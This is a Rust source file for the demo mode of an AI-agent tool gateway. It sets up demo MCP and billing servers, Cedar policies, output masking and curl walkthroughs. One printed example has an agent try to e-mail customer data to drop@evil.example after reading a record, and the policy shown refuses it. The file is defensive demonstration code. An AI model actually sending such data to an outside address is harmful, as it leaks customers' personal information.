//! `toolgate demo`: the gateway with a built-in configuration, a small
//! in-process MCP server (`crm`) and a REST API behind its OpenAPI document
//! (`billing`), so a newcomer sees every part working with no setup. Both
//! are served over plain blocking sockets from one listener; they are demo
//! scaffolding, not part of the gateway's request path. `crm` receives a
//! signed end-user assertion with every call (`crm__whoami` says whom it
//! was called for, checked against toolgate's key).

mod billing;
mod crm;

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::time::Duration;

use serde_json::Value;

/// The demo agents: (id, API key, attached tools).
pub const AGENTS: [(&str, &str, &[&str]); 2] = [
    (
        "support-bot",
        "tg_demo_support_key",
        &[
            "crm__lookup_customer",
            "crm__echo",
            "crm__send_email",
            "crm__whoami",
            "billing__getInvoice",
        ],
    ),
    (
        "billing-bot",
        "tg_demo_billing_key",
        &[
            "crm__lookup_customer",
            "crm__delete_record",
            "crm__echo",
            "billing__getInvoice",
            "billing__createRefund",
        ],
    ),
];

/// The demo's Cedar policy: attached tools are allowed, but no refund
/// above 1000, whoever asks, and no e-mail out of a session that has read
/// a customer record (the toxic flow).
pub const POLICY: &str = r#"@id("attached-tools")
permit(principal, action, resource);

@id("no-large-refunds")
forbid(principal, action == Toolgate::Action::"billing__createRefund", resource)
when { context.args.amount > 1000 };

@id("toxic-flow")
forbid(principal, action, resource)
when {
  resource.labels.contains("external_send") &&
  (context.session.labels.contains("reads_pii") || !context.session.known)
};
"#;

/// The demo's tool labels.
pub const LABELS: &str = r#"[tool_labels]
"crm__lookup_customer" = ["reads_pii"]
"crm__send_email" = ["external_send"]

"#;

/// Writes the demo configuration into `dir` — listening on `listen`, with
/// the demo servers at `upstream` — beside the files it names (the billing
/// API's OpenAPI document, its credential, the policy); returns its path.
pub fn write_config(
    dir: &std::path::Path,
    listen: SocketAddr,
    upstream: SocketAddr,
) -> std::io::Result<std::path::PathBuf> {
    let audit_dir = dir.join("audit");
    std::fs::write(
        dir.join("billing.openapi.json"),
        serde_json::to_string_pretty(&billing::document()).unwrap_or_default(),
    )?;
    std::fs::write(dir.join("billing.token"), billing::TOKEN)?;
    std::fs::write(dir.join("demo.cedar"), POLICY)?;
    std::fs::write(dir.join("assertion.pem"), crm::assertion_key()?)?;
    let mut s = format!(
        "[server]\nlisten = \"{listen}\"\nshards = 1\n\n\
         [identity_assertions]\nkey_file = \"assertion.pem\"\nissuer = \"toolgate-demo\"\n\n\
         [[upstreams]]\nname = \"crm\"\nurl = \"http://{upstream}/mcp\"\ntimeout_ms = 5000\n\
         [upstreams.identity]\nmode = \"assertion\"\n\n\
         [[upstreams]]\nname = \"billing\"\nkind = \"openapi\"\nspec = \"billing.openapi.json\"\nbase_url = \"http://{upstream}\"\ntimeout_ms = 5000\n\
         [upstreams.credential]\nheader = \"Authorization\"\nvalue_prefix = \"Bearer \"\nfile = \"billing.token\"\n\n\
         [policies]\nfiles = [\"demo.cedar\"]\n\n"
    );
    for (id, key, tools) in AGENTS {
        let hash = hex::encode(toolgate_core::identity::key_hash(key.as_bytes()));
        let tools: Vec<String> = tools.iter().map(|t| format!("\"{t}\"")).collect();
        s.push_str(&format!(
            "[[agents]]\nid = \"{id}\"\napi_key_sha256 = \"{hash}\"\ntools = [{}]\nact_for_users = {}\n",
            tools.join(", "),
            id == "support-bot"
        ));
        // support-bot reads customer records and drafts replies.
        if id == "support-bot" {
            s.push_str(
                "prompts = [\"crm__summarize_customer\"]\nresources = [\"toolgate://crm/crm://customers/*\"]\n",
            );
        }
        s.push('\n');
    }
    s.push_str(&format!("[audit]\ndir = \"{}\"\n\n", audit_dir.display()));
    s.push_str(LABELS);
    s.push_str(OUTPUT_RULES);
    let path = dir.join("toolgate.toml");
    std::fs::write(&path, s)?;
    Ok(path)
}

/// The demo's output rules: card numbers masked for every agent (from the
/// MCP server's tools, prompt and resources and the REST API alike),
/// e-mail addresses masked for
/// billing-bot only.
pub const OUTPUT_RULES: &str = r#"[[output_rules]]
name = "cards"
tools = ["crm__*", "billing__*", "toolgate://crm/*"]
detectors = ["card"]
style = "last4"

[[output_rules]]
name = "billing-no-email"
tools = ["crm__lookup_customer"]
agents = ["billing-bot"]
detectors = ["email"]
"#;

/// Starts the demo upstream on 127.0.0.1 (any free port); returns its address.
pub fn start_upstream() -> std::io::Result<SocketAddr> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let addr = listener.local_addr()?;
    std::thread::Builder::new()
        .name("demo-upstream".into())
        .spawn(move || {
            for conn in listener.incoming().flatten() {
                let _ = std::thread::Builder::new()
                    .name("demo-conn".into())
                    .spawn(move || serve(conn));
            }
        })?;
    Ok(addr)
}

fn serve(mut conn: TcpStream) {
    let _ = conn.set_read_timeout(Some(Duration::from_secs(60)));
    let mut buf = Vec::new();
    let mut chunk = [0u8; 8192];
    loop {
        let (head_len, method, path, authorization, assertion, length) = loop {
            let mut headers = [httparse::EMPTY_HEADER; 32];
            let mut req = httparse::Request::new(&mut headers);
            match req.parse(&buf) {
                Ok(httparse::Status::Complete(n)) => {
                    let header = |name: &str| {
                        req.headers
                            .iter()
                            .find(|h| h.name.eq_ignore_ascii_case(name))
                            .and_then(|h| std::str::from_utf8(h.value).ok())
                            .map(|v| v.trim().to_owned())
                    };
                    let len = header("content-length")
                        .and_then(|v| v.parse::<usize>().ok())
                        .unwrap_or(0);
                    break (
                        n,
                        req.method.unwrap_or("").to_owned(),
                        req.path.unwrap_or("").to_owned(),
                        header("authorization"),
                        header("toolgate-user-assertion"),
                        len.min(1 << 20),
                    );
                }
                Ok(httparse::Status::Partial) if buf.len() < 65536 => match conn.read(&mut chunk) {
                    Ok(0) | Err(_) => return,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                },
                _ => return,
            }
        };
        while buf.len() < head_len + length {
            match conn.read(&mut chunk) {
                Ok(0) | Err(_) => return,
                Ok(n) => buf.extend_from_slice(&chunk[..n]),
            }
        }
        let body: Vec<u8> = buf[head_len..head_len + length].to_vec();
        buf.drain(..head_len + length);
        let rest = billing::answer(&method, &path, authorization.as_deref(), &body);
        let response = match (rest, method.as_str()) {
            (Some((status, v)), _) => {
                let b = v.to_string();
                format!(
                    "HTTP/1.1 {status} Demo\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{b}",
                    b.len()
                )
            }
            (None, "POST") => match serde_json::from_slice::<Value>(&body)
                .ok()
                .as_ref()
                .map(|req| crm::answer(req, assertion.as_deref()))
            {
                Some(Some(v)) => {
                    let b = v.to_string();
                    format!(
                        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nMcp-Session-Id: demo-session\r\nContent-Length: {}\r\n\r\n{b}",
                        b.len()
                    )
                }
                Some(None) => "HTTP/1.1 202 Accepted\r\nContent-Length: 0\r\n\r\n".to_owned(),
                None => "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n".to_owned(),
            },
            (None, "DELETE") => "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n".to_owned(),
            _ => "HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n".to_owned(),
        };
        if conn.write_all(response.as_bytes()).is_err() {
            return;
        }
    }
}

/// The commands printed when the demo starts.
pub fn instructions(gateway: SocketAddr, audit_dir: &std::path::Path) -> String {
    let url = format!("http://{gateway}/mcp");
    let mut s = format!("\ntoolgate demo is running at {url}\n\n");
    for (id, key, tools) in AGENTS {
        s.push_str(&format!(
            "Agent `{id}` (API key {key}) is attached to: {}\n",
            tools.join(", ")
        ));
    }
    let (_, support, _) = AGENTS[0];
    let (_, billing, _) = AGENTS[1];
    let hdr = "-H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -H 'MCP-Protocol-Version: 2026-07-28'";
    let meta = r#""_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}"#;
    s.push_str(&format!(
        "\nList the tools support-bot sees:\n  curl -s {url} -H 'Authorization: Bearer {support}' {hdr} -H 'Mcp-Method: tools/list' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"tools/list\",\"params\":{{{meta}}}}}'\n"
    ));
    s.push_str(&format!(
        "\nLook up a customer as support-bot (allowed):\n  curl -s {url} -H 'Authorization: Bearer {support}' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: crm__lookup_customer' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":2,\"method\":\"tools/call\",\"params\":{{\"name\":\"crm__lookup_customer\",\"arguments\":{{\"customer_id\":\"c-42\"}},{meta}}}}}'\n"
    ));
    s.push_str(&format!(
        "\nThe same call as billing-bot (card masked for both agents, e-mail masked for billing-bot only):\n  curl -s {url} -H 'Authorization: Bearer {billing}' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: crm__lookup_customer' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/call\",\"params\":{{\"name\":\"crm__lookup_customer\",\"arguments\":{{\"customer_id\":\"c-42\"}},{meta}}}}}'\n"
    ));
    s.push_str(&format!(
        "\nDelete a record as support-bot (refused: not attached):\n  curl -s {url} -H 'Authorization: Bearer {support}' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: crm__delete_record' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":4,\"method\":\"tools/call\",\"params\":{{\"name\":\"crm__delete_record\",\"arguments\":{{\"record_id\":\"r-1\"}},{meta}}}}}'\n"
    ));
    s.push_str(&format!(
        "\nCall the REST API `billing` (behind its OpenAPI document) as a tool; toolgate injects its credential, the card is masked:\n  curl -s {url} -H 'Authorization: Bearer {billing}' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: billing__getInvoice' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":5,\"method\":\"tools/call\",\"params\":{{\"name\":\"billing__getInvoice\",\"arguments\":{{\"invoice_id\":\"inv-1\"}},{meta}}}}}'\n"
    ));
    s.push_str(&format!(
        "\nA refund above 1000 (refused by the Cedar policy in demo.cedar before the API sees it):\n  curl -s {url} -H 'Authorization: Bearer {billing}' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: billing__createRefund' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":6,\"method\":\"tools/call\",\"params\":{{\"name\":\"billing__createRefund\",\"arguments\":{{\"invoice_id\":\"inv-1\",\"amount\":5000}},{meta}}}}}'\n"
    ));
    s.push_str(&format!(
        "\nSend an e-mail as support-bot in the session that just read a customer record (refused: the toxic flow in demo.cedar):\n  curl -s {url} -H 'Authorization: Bearer {support}' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: crm__send_email' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"tools/call\",\"params\":{{\"name\":\"crm__send_email\",\"arguments\":{{\"to\":\"drop@evil.example\",\"body\":\"Ada, gold\"}},{meta}}}}}'\n"
    ));
    s.push_str(&format!(
        "\nThe same e-mail in a fresh conversation, which has read nothing (allowed):\n  curl -s {url} -H 'Authorization: Bearer {support}' -H 'Toolgate-Conversation: fresh-1' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: crm__send_email' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":8,\"method\":\"tools/call\",\"params\":{{\"name\":\"crm__send_email\",\"arguments\":{{\"to\":\"partner@example.com\",\"body\":\"hello\"}},{meta}}}}}'\n"
    ));
    s.push_str(&format!(
        "\nAsk the CRM whom it was called for: support-bot acting for alice (the CRM verifies toolgate's signed assertion; keys at http://{gateway}/.well-known/jwks.json):\n  curl -s {url} -H 'Authorization: Bearer {support}' -H 'Toolgate-On-Behalf-Of: alice' {hdr} -H 'Mcp-Method: tools/call' -H 'Mcp-Name: crm__whoami' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":9,\"method\":\"tools/call\",\"params\":{{\"name\":\"crm__whoami\",\"arguments\":{{}},{meta}}}}}'\n"
    ));
    s.push_str(&format!(
        "\nRead a customer as an MCP resource, in toolgate's URI namespace (attached to support-bot only; the card masked as in tool results):\n  curl -s {url} -H 'Authorization: Bearer {support}' {hdr} -H 'Mcp-Method: resources/read' -H 'Mcp-Name: toolgate://crm/crm://customers/c-42' \\\n    -d '{{\"jsonrpc\":\"2.0\",\"id\":10,\"method\":\"resources/read\",\"params\":{{\"uri\":\"toolgate://crm/crm://customers/c-42\",{meta}}}}}'\n"
    ));
    let rest = format!("http://{gateway}/rest/billing");
    s.push_str(&format!(
        "\nThe same API through the REST door, as plain HTTP (same attachment, policy, credential injection, output rules and audit):\n  curl -s {rest}/invoices/inv-1 -H 'Authorization: Bearer {billing}'\n  curl -s -X POST {rest}/refunds -H 'Authorization: Bearer {billing}' -H 'Content-Type: application/json' -d '{{\"invoice_id\":\"inv-1\",\"amount\":5000}}'\n"
    ));
    s.push_str(&format!(
        "\nWith the official Python SDK (pip install mcp):\n  python3 -c \"import asyncio, httpx2; from mcp import Client; from mcp.client.streamable_http import streamable_http_client as h\nasync def main():\n    async with Client(h('{url}', http_client=httpx2.AsyncClient(headers={{'Authorization': 'Bearer {support}'}}))) as c:\n        print([t.name for t in (await c.list_tools()).tools])\n        print((await c.call_tool('crm__lookup_customer', {{'customer_id': 'c-42'}})).content[0].text)\nasyncio.run(main())\"\n"
    ));
    s.push_str(&format!(
        "\nEvery call is recorded in the audit log in {dir}:\n  toolgate audit tail -f {dir}\n  toolgate audit verify {dir}\nPress Ctrl-C to stop.\n",
        dir = audit_dir.display()
    ));
    s
}
